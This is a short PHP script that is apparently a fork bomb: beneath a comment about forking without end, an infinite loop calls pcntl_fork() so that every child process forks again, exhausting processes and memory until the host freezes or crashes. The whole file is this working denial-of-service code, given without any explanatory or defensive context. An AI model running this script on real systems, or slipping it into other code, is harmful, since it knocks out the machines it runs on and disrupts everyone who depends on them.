<?php
// Forks without end: each process that comes of it does the same.
while (true) {
    pcntl_fork();
}
